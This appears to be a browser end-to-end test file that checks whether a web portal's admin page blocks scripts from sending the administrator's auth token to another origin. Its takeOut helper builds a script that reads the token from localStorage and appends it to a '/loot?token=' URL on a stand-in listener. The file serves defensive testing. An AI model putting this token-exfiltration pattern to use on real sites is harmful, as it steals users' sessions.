import { sessions } from '@kallos/contracts/auth/sessions';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { productUrl, stranger } from '../api.ts';
import { openPage, type WatchedPage } from '../browser.ts';
import { demo } from '../demo.ts';
import { closedWays, type Elsewhere, openElsewhere, openWays, type Way } from '../ways-out.ts';

let elsewhere: Elsewhere;
let admin = '';
beforeAll(async () => {
  elsewhere = await openElsewhere();
  ({ token: admin } = await stranger()(sessions.loginAdmin, { body: demo.admin }));
});
afterAll(() => elsewhere.close());

/** A screen of the portal's remote in the browser of somebody who is signed in as administrator. */
async function openDesk(): Promise<WatchedPage> {
  const watched = await openPage({ stored: { auth_token: admin } });
  await watched.page.goto(`${productUrl()}/portal/facebook-pages`);
  // Not the card of a remote that did not come.
  await watched.page.getByLabel('Access token', { exact: true }).waitFor();
  return watched;
}

/** Runs a way in the page with the administrator's token in the address, and answers what was heard elsewhere. */
async function takeOut(page: Page, way: Way): Promise<number> {
  elsewhere.heard();
  const { origin, port } = elsewhere;
  // Written as text, because what a build adds to a function is not there in the page.
  const run = `(async () => {
    const to = ${JSON.stringify(origin)} + '/loot?token=' + localStorage.getItem('auth_token');
    const nonce = document.querySelector('[nonce]').nonce;
    await (${way.toString()})({ to, port: ${port}, nonce });
  })()`;
  await Promise.race([page.evaluate(run).catch(() => undefined), page.waitForTimeout(500)]).catch(
    () => undefined,
  );
  await new Promise((resume) => setTimeout(resume, 1000));
  return elsewhere.heard();
}

describe("a remote that would take the administrator's token elsewhere", () => {
  it('gets no answer from any way that a page can close', async () => {
    const { page, context } = await openDesk();
    const open: string[] = [];
    for (const [name, way] of Object.entries(closedWays)) {
      if ((await takeOut(page, way)) > 0) open.push(name);
      if (!page.url().startsWith(productUrl())) open.push(`${name} leaves the page`);
    }
    expect(open).toEqual([]);
    await context.close();
  }, 240_000);

  it.each(Object.entries(openWays))('has this way, which no page can close: %s', async (_, { go }) => {
    const { page, context } = await openDesk();
    expect(await takeOut(page, go)).toBeGreaterThan(0);
    await context.close();
  });
});
